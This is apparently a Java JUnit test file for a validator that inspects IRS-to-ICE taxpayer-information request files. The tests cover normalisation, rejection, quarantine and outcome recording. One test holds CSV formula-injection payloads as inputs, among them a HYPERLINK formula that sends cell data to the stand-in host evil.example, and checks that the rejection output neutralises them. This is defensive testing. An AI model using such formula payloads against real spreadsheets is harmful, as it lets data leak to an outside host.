package org.safegate.inspect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.safegate.SafegateException;
import org.safegate.inspect.read.RawRecord;
import org.safegate.inspect.read.RecordFormat;

/** Whole files through the inspector: outputs, quarantine, recorded outcomes, injection-safe rejections. */
class RequestInspectorTest {
    @TempDir
    Path dir;

    private final InMemoryPassedRequests ledger = new InMemoryPassedRequests();
    private final RequestInspector inspector = new RequestInspector(InspectFixtures.settings(), ledger);

    @Test
    void aFormulaInARejectedCellIsNeutralisedInTheRejectionFile() throws IOException {
        Path requests = write("requests.csv", InspectFixtures.HEADER + "\n"
                + "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",,1 A St,B,IL,62701,2023,"
                + "26 U.S.C. 6103(i)(2),r,J\n"
                + "@SUM(1+1),,1 A St,B,IL,62701,2023,26 U.S.C. 6103(i)(2),r2,J\n"
                + "\tR3,,1 A St,B,IL,62701,2023,26 U.S.C. 6103(i)(2),r3,J\n");
        InspectionResult result = inspector.inspect(requests, InspectFixtures.context(), dir.resolve("passed.csv"),
                dir.resolve("rejected.csv"));

        assertThat(result.refused()).isEqualTo(3);
        String rejections = Files.readString(dir.resolve("rejected.csv"));
        assertThat(rejections).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
                .contains("3,'@SUM(1+1),").contains("4,'\tR3,");
        List<RawRecord> rows = InspectFixtures.readAll(dir.resolve("rejected.csv"), RecordFormat.CSV, RejectionWriter.HEADER);
        assertThat(rows).extracting(r -> r.value("request_id").charAt(0)).containsOnly('\'');
        for (RawRecord row : rows) {
            for (String cell : row.values()) {
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void passedRecordsAreWrittenNormalisedWithTheirExtraColumns() throws IOException {
        Path requests = write("requests.csv", InspectFixtures.HEADER + ",case_number\n"
                + "R1,mary o'brien,45 North Oak Avenue Apartment 4B,boston,Massachusetts,021341234,\"2021, 2022\","
                + "IRC § 6103(i)(2),Named in affidavit 3,J. Agent,C-77\n");
        InspectionResult result = inspector.inspect(requests, InspectFixtures.context(), dir.resolve("passed.csv"),
                dir.resolve("rejected.csv"));

        assertThat(result.passed()).isEqualTo(1);
        assertThat(result.quarantined()).isFalse();
        assertThat(Files.readString(dir.resolve("passed.csv"))).isEqualTo(InspectFixtures.HEADER + ",case_number\r\n"
                + "R1,MARY OBRIEN,45 N OAK AVE APT 4B,BOSTON,MA,02134-1234,2021;2022,IRC § 6103(i)(2),"
                + "Named in affidavit 3,J. Agent,C-77\r\n");
        assertThat(Files.readString(dir.resolve("rejected.csv"))).isEqualTo("line,request_id,reason_codes,reasons\r\n");
    }

    @Test
    void passedAndRefusedIdsAreRecordedForTheAnswers() {
        InspectionResult result = inspect(InspectFixtures.VALID_ROW + "\n" + row("R2", "") + "\n"
                + String.join("\n", rows(3, 40)) + "\n");

        assertThat(result.arrived()).isEqualTo(40);
        assertThat(result.refused()).isEqualTo(1);
        assertThat(result.quarantined()).as("1 of 40 is not over 5%").isFalse();
        assertThat(ledger.find("IRS-ICE-2025", "R1")).hasValueSatisfying(o -> {
            assertThat(o.passed()).isTrue();
            assertThat(o.requester()).isEqualTo("ICE");
            assertThat(o.inspectedAt()).isEqualTo(InspectFixtures.RECEIVED);
        });
        assertThat(ledger.find("IRS-ICE-2025", "R2")).hasValueSatisfying(o -> assertThat(o.passed()).isFalse());
    }

    @Test
    void aQuarantinedFileRecordsNothingAsPassed() {
        InspectionResult result = inspect(InspectFixtures.VALID_ROW + "\n" + row("R2", "") + "\n");

        assertThat(result.quarantined()).isTrue();
        assertThat(result.passed()).isEqualTo(1);
        assertThat(ledger.find("IRS-ICE-2025", "R1")).hasValueSatisfying(o -> assertThat(o.passed()).isFalse());
    }

    @Test
    void jsonLinesInGiveJsonLinesOut() throws IOException {
        Path requests = write("requests.jsonl", "{\"request_id\":\"R1\",\"name\":\"Ann Lee\",\"street\":\"PO Box 7\","
                + "\"city\":\"Hagatna\",\"state\":\"gu\",\"zip\":\"96910\",\"taxable_periods\":\"2024\","
                + "\"statute\":\"26 USC 6103(i)(2)\",\"reason\":\"Affidavit 9\",\"requesting_official\":\"J\",\"extra\":1}\n"
                + "{\"request_id\":\"R2\",\"name\":\"=cmd\"}\n");
        InspectionResult result = inspector.inspect(requests, InspectFixtures.context(), dir.resolve("passed.jsonl"),
                dir.resolve("rejected.csv"));

        assertThat(result.passed()).isEqualTo(1);
        assertThat(Files.readString(dir.resolve("passed.jsonl"))).isEqualTo("{\"request_id\":\"R1\",\"name\":\"ANN LEE\","
                + "\"street\":\"PO BOX 7\",\"city\":\"HAGATNA\",\"state\":\"GU\",\"zip\":\"96910\",\"taxable_periods\":\"2024\","
                + "\"statute\":\"26 USC 6103(i)(2)\",\"reason\":\"Affidavit 9\",\"requesting_official\":\"J\",\"extra\":\"1\"}\n");
        assertThat(InspectFixtures.rejectedCodesByLine(dir.resolve("rejected.csv")).get(2L)).isEqualTo(
                "ADDRESS_INCOMPLETE;STATE_INVALID;ZIP_INVALID;PERIOD_MISSING;STATUTE_MISSING;REASON_MISSING;OFFICIAL_MISSING");
    }

    @Test
    void aStreamIsInspectedLikeAFile() {
        byte[] file = (InspectFixtures.HEADER + "\n" + InspectFixtures.VALID_ROW + "\n").getBytes(StandardCharsets.UTF_8);
        InspectionResult result = inspector.inspect(new ByteArrayInputStream(file), "upload.csv", RecordFormat.CSV,
                InspectFixtures.context(), dir.resolve("passed.csv"), dir.resolve("rejected.csv"));
        assertThat(result.passed()).isEqualTo(1);
        assertThat(dir.toFile().list()).containsExactlyInAnyOrder("passed.csv", "rejected.csv");
    }

    @Test
    void aMalformedFileLeavesNoOutputsAndRecordsNothingAsPassed() throws IOException {
        Path requests = write("requests.csv", InspectFixtures.HEADER + "\n" + InspectFixtures.VALID_ROW + "\nR2,\"open\n");
        assertThatThrownBy(() -> inspector.inspect(requests, InspectFixtures.context(), dir.resolve("passed.csv"),
                dir.resolve("rejected.csv"))).isInstanceOf(SafegateException.class).hasMessageContaining("never closed");
        assertThat(dir.resolve("passed.csv")).doesNotExist();
        assertThat(dir.resolve("rejected.csv")).doesNotExist();
        assertThat(ledger.find("IRS-ICE-2025", "R1")).isEmpty();
    }

    private InspectionResult inspect(String rows) {
        try {
            Path requests = write("requests.csv", InspectFixtures.HEADER + "\n" + rows);
            return inspector.inspect(requests, InspectFixtures.context(), dir.resolve("passed.csv"), dir.resolve("rejected.csv"));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static String row(String id, String name) {
        return id + "," + name + ",123 Main St,Springfield,IL,62701,2023,26 U.S.C. 6103(i)(2),Affidavit for " + id + ",J";
    }

    private static List<String> rows(int from, int to) {
        return java.util.stream.IntStream.rangeClosed(from, to).mapToObj(i -> row("R" + i, "Person " + i)).toList();
    }

    private Path write(String name, String text) throws IOException {
        Path input = dir.resolve("in");
        Files.createDirectories(input);
        return Files.writeString(input.resolve(name), text);
    }
}
